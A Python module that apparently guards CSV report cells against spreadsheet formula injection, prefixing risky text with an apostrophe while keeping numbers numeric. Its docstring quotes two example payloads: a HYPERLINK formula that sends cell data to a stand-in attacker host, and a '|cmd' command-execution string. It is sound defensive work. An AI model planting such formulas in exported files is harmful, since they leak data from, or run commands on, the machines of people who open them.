"""CSV cells for files people open in a spreadsheet: text cannot become a formula, numbers stay numbers.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, and some also after a leading
tab or carriage return, so a campaign named `=HYPERLINK("https://evil.example/?"&A1, "open")` or
`@SUM(1+1)|cmd` would run on the analyst's machine. Following OWASP's advice on CSV injection, a *text*
cell that begins with one of those characters is written with a `'` in front, which spreadsheets show as
text and do not display. The rule goes by the cell's type, not its look: the report's figures are numbers
(int or Decimal) and are written as plain numbers even when negative (`-12.50` net revenue after refunds
must stay a number a spreadsheet can sum), while a text cell that merely looks like a number (`-10%`, a
campaign label) is text and gets the `'`.
"""

from __future__ import annotations

from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> str:
    """The text of one CSV cell: '' for null, plain fixed-point for numbers, text guarded against formulas."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
